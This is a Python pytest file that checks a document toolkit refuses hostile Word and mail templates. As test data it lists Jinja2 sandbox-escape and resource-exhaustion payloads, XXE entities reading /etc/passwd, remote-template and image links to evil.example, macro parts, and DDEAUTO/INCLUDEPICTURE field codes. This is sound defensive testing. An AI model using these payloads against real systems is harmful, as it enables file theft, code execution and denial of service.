"""What may a template do that somebody sent the office? Say where fields go; nothing else, and never without end."""

import time
import zipfile
from pathlib import Path

import pytest
from docx import Document

from tests.spec.test_reminder import TEMPLATE
from toolkit.documents.lint.lint import lint
from toolkit.documents.paper.render import render
from toolkit.documents.paper.template_safety import opened
from toolkit.files import shipped
from toolkit.intake.read import read_submission
from toolkit.intake.trips.forms import read_form
from toolkit.mail.templates import MailTemplate
from toolkit.model.errors import ToolkitError
from toolkit.model.period import ReportingPeriod
from toolkit.model.submission import Status
from toolkit.schemes.loader import load_shipped

TRICKS = (
    "{{ ''.__class__.__mro__ }}",
    "{{ field.__init__.__globals__ }}",
    "{{ field|attr('__class__') }}",
    "{{ field['__class__'] }}",
    "{{ ''['__class__'] }}",
    "{% include '设置.toml' %}",
    "{% include '../设置.toml' %}",
    "{% import '/etc/passwd' as x %}",
    "{% extends '邮件.html' %}",
    "{{ open('/etc/passwd').read() }}",
    "{{ self }}",
    "{{ range(10**9) }}",
    "{% for i in range(1000000000) %}{{ i }}{% endfor %}",
    "{{ 'a' * 1000000000 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ '%1000000000s' % field }}",
    "{{ 'a'.center(1000000000) }}",
    "{{ 'a' ~ 'b' }}",
    "{% set x = 1 %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% autoescape false %}{{ field }}{% endautoescape %}",
    "{{ field|safe }}",
    "{{ field|center(1000000000) }}",
    "{{ field|join(field) }}",
    "{{ many|join('0123456789' '0123456789' '0') }}",
    "{% for a in field %}{{ a }}{% endfor %}",
    "{% for a in many %}{% for b in many %}{% for c in many %}{% for d in many %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
    "{% if a %}" * 200 + "{% endif %}" * 200,
    "{{ " + "9" * 480 + " ** 2 }}",
    "{{" * 50_000,
    "{% raw %}",
)
WORDS = {"field": "文" * 30_000, "many": ["行"] * 200, "a": True}


@pytest.mark.parametrize("trick", TRICKS, ids=lambda trick: trick[:40])
def test_a_hostile_word_template_is_one_sentence_within_seconds(tmp_path, trick):
    """It names template and words; nothing is written, no file is read, no memory is filled."""
    document = Document()
    document.add_paragraph(trick)
    document.save(str(tmp_path / "来历不明.docx"))
    started = time.process_time()
    with pytest.raises(ToolkitError, match=r"^模板“来历不明.docx”[^\n]*。$") as refused:
        render(tmp_path / "来历不明.docx", WORDS, tmp_path / "文.docx")
    assert time.process_time() - started < 5 and not (tmp_path / "文.docx").exists()
    assert trick[:20] in str(refused.value) and "Error" not in str(refused.value)


@pytest.mark.parametrize("name", ["邮件.txt", "邮件.html"])
@pytest.mark.parametrize("trick", TRICKS, ids=lambda trick: trick[:40])
def test_a_hostile_mail_template_is_one_sentence_within_seconds(tmp_path, trick, name):
    """As with Word: template, line and words are named."""
    (tmp_path / "设置.toml").write_text("[mail]", "utf-8")
    (tmp_path / name).write_text(f"您好：\n{trick}\n", "utf-8")
    started = time.process_time()
    with pytest.raises(ToolkitError, match=rf"^模板“{name}”[^\n]*第2行[^\n]*。$") as refused:
        MailTemplate(name, [tmp_path]).filled(WORDS)
    assert time.process_time() - started < 5
    assert trick[:20] in str(refused.value) and "Error" not in str(refused.value)


def test_a_misspelt_field_of_a_mail_template_is_shown_with_its_line(tmp_path):
    """StrictUndefined: a field that no letter has is never left out in silence."""
    (tmp_path / "邮件.txt").write_text("{{ to }}：\n请于{{ deu }}前报送。\n", "utf-8")
    with pytest.raises(ToolkitError, match=r"^模板“邮件.txt”填不出来，问题在第2行（请于{{ deu }}前报送。），请检查"):
        MailTemplate("邮件.txt", [tmp_path]).filled({"to": "甲"})


def test_what_a_letter_quotes_is_escaped_in_html_only(tmp_path):
    """autoescape: mark-up of a unit is text in 邮件.html, and stands as it was typed in 邮件.txt."""
    for name, shown in (("邮件.txt", "<b>&"), ("邮件.html", "&lt;b&gt;&amp;")):
        (tmp_path / name).write_text("{{ to }}", "utf-8")
        assert MailTemplate(name, [tmp_path]).filled({"to": "<b>&"}) == shown


@pytest.mark.parametrize("content", [b"\xff\xfe\x00", b"{{ to }}" + b" " * 2_000_000])
def test_a_mail_template_that_is_none_is_one_sentence(tmp_path, content):
    """Another encoding, or a file that is no letter."""
    (tmp_path / "邮件.txt").write_bytes(content)
    with pytest.raises(ToolkitError, match=r"^(“模板/邮件.txt”不是文本文件|模板“邮件.txt”太大)"):
        MailTemplate("邮件.txt", [tmp_path])


def rewritten(path: Path, out: Path, name: str, old: str, new: str) -> Path:
    """Copy a package with words of one part replaced."""
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w") as target:
        for entry in source.namelist():
            content = source.read(entry)
            target.writestr(entry, content.replace(old.encode(), new.encode(), 1) if entry == name else content)
    return out


@pytest.mark.parametrize(
    ("quote", "kind", "target", "refused"),
    [
        ('"', "image", "http://evil.example/a.png", True),
        ("'", "image", "https://evil.example/a.png", True),
        ('"', "attachedTemplate", r"\\evil.example\share\a.dotm", True),
        ('"', "attachedTemplate", "file://evil.example/share/a.dotm", True),
        ('"', "attachedTemplate", "file:///C:/Users/wei/公文.dotm", False),
        ('"', "hyperlink", "http://www.luzhai.example/", False),
    ],
)
def test_a_template_fetches_nothing_from_another_computer(tmp_path, quote, kind, target, refused):
    """A remote picture or template in a letterhead would tell a stranger who opens our documents, and send code."""
    link = "<Relationship Id={0}rId99{0} Type={0}http://schemas.example/{1}{0} Target={0}{2}{0} TargetMode={0}External{0}/>"
    part = "word/_rels/document.xml.rels"
    added = link.format(quote, kind, target) + "</Relationships>"
    path = rewritten(TEMPLATE, tmp_path / "别人的.docx", part, "</Relationships>", added)
    if not refused:
        with pytest.raises(ToolkitError, match="字段“"):  # it is opened, and asks for its fields
            render(path, {}, tmp_path / "文.docx")
        return
    with pytest.raises(ToolkitError, match=r"^模板“别人的.docx”里有从别处取来的内容（.*evil"):
        render(path, {}, tmp_path / "文.docx")


@pytest.mark.parametrize("part", ["word/styles.xml", "word/settings.xml", "docProps/app.xml", "word/fontTable.xml"])
def test_a_doctype_in_any_part_is_no_word_document(tmp_path, part):
    """Word, LibreOffice and our library read those parts, too."""
    with zipfile.ZipFile(TEMPLATE) as source:
        head = source.read(part).decode().partition("?>")[2].lstrip()[:30]
    doctype = f'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>{head}'
    path = rewritten(TEMPLATE, tmp_path / "实体.docx", part, head, doctype)
    with pytest.raises(ToolkitError, match=r"^模板“实体.docx”不是 Word 文档"):
        render(path, {}, tmp_path / "文.docx")


def with_part(path: Path, out: Path, name: str, content: bytes) -> Path:
    """Copy a package with one more part."""
    out.write_bytes(path.read_bytes())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(name, content)
    return out


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/vbaProjectSignature.bin",
        "word/activeX/activeX1.xml",
        "VBAPROJECT.BIN",
    ],
)
def test_a_template_with_macros_is_not_used(tmp_path, name):
    """Every paper made from it would carry the program to whoever opens it."""
    path = with_part(TEMPLATE, tmp_path / "带宏.docx", name, b"<a/>")
    with pytest.raises(
        ToolkitError, match=r"^模板“带宏.docx”里有宏或控件，没有使用。请在 Word 里另存为不带宏的 .docx。$"
    ):
        render(path, {}, tmp_path / "文.docx")


RUN = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
FIELDS = {
    "in one run": RUN.format(' INCLUDEPICTURE "http://evil.example/a.png" \\* MERGEFORMATINET '),
    "cut into runs": RUN.format(" INCLUDE") + RUN.format("PICTURE ") + RUN.format(' "C:\\a.png" '),
    "in small letters": RUN.format(' includetext "c:\\a.docx" '),
    "simple": '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
    "another program": RUN.format(" DDEAUTO c:\\windows\\system32\\cmd.exe "),
    "a table of another file": RUN.format(' LINK Excel.Sheet.12 "C:\\a.xlsx" '),
    "a picture of vml": '<w:r><w:pict><v:shape xmlns:v="urn:v"><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r>',
}


@pytest.mark.parametrize("field", FIELDS, ids=str)
def test_a_field_that_brings_in_another_file_is_not_used(tmp_path, field):
    """It is fetched whenever somebody opens or prints a paper made from it: body, header, whatever the letters."""
    body = f"<w:p>{FIELDS[field]}</w:p>"
    path = rewritten(TEMPLATE, tmp_path / "取图.docx", "word/document.xml", "<w:body>", f"<w:body>{body}")
    with pytest.raises(ToolkitError, match=r"^模板“取图.docx”里有从别处取来的内容（[^\n]*）[^\n]*。$"):
        render(path, {}, tmp_path / "文.docx")


def test_the_fields_of_every_paper_are_used(tmp_path):
    """PAGE, NUMPAGES, DATE and a link within the document bring in nothing; neither does a word like LINKED."""
    body = "".join(
        f"<w:p>{RUN.format(code)}</w:p>"
        for code in (" PAGE ", " NUMPAGES ", ' DATE \\@ "yyyy" ', " REF a ", " LINKED ")
    )
    path = rewritten(TEMPLATE, tmp_path / "页码.docx", "word/document.xml", "<w:body>", f"<w:body>{body}")
    with pytest.raises(ToolkitError, match="字段“"):  # it is opened, and asks for its fields
        render(path, {}, tmp_path / "文.docx")


def test_every_template_of_ours_is_safe():
    """The rule is not so strict that our own papers fail it."""
    folder = shipped.folder("templates")
    assert all(opened(path.name, path.read_bytes()) for path in folder.glob("*.docx"))


# Too much of it

MANY = 9_000_000


@pytest.fixture(scope="module")
def endless(tmp_path_factory) -> Path:
    """A form of nine million paragraphs: 60 KB as a file, 60 MB of XML."""
    path = tmp_path_factory.mktemp("长") / "江口乡（审批表）.docx"
    with zipfile.ZipFile(TEMPLATE) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.namelist():
            content = source.read(entry)
            if entry == "word/document.xml":
                content = content.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * MANY, 1)
            target.writestr(entry, content)
    return path


@pytest.mark.parametrize("reader", ["form", "table", "lint", "template"])
def test_a_form_of_nine_million_paragraphs_is_one_sentence_within_seconds(endless, reader, tmp_path):
    """Read back as a form, sent as a table, checked as a paper, used as a template: refused before it fills the memory."""
    started = time.process_time()
    if reader == "form":
        (finding,) = read_form(endless).findings
        assert "不像一份表" in finding.message
    elif reader == "table":
        submission = read_submission(endless, load_shipped("luzhai-2022"), ReportingPeriod(2022, 6))
        assert submission.status is Status.REFUSED and "不像一份表" in submission.reason
    elif reader == "lint":
        with pytest.raises(ToolkitError, match=r"^“江口乡（审批表）.docx”[^\n]*不像一份公文[^\n]*。$"):
            lint(endless)
    else:
        with pytest.raises(ToolkitError, match=r"^模板“江口乡（审批表）.docx”[^\n]*。$"):
            render(endless, {}, tmp_path / "文.docx")
    assert time.process_time() - started < 10


def test_a_template_with_a_doctype_is_no_word_document(tmp_path):
    """An entity could name a file of this computer, or grow a thousand million times."""
    doctype = '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document '
    path = rewritten(TEMPLATE, tmp_path / "实体.docx", "word/document.xml", "<w:document ", doctype)
    with pytest.raises(ToolkitError, match=r"^模板“实体.docx”不是 Word 文档"):
        render(path, {}, tmp_path / "文.docx")
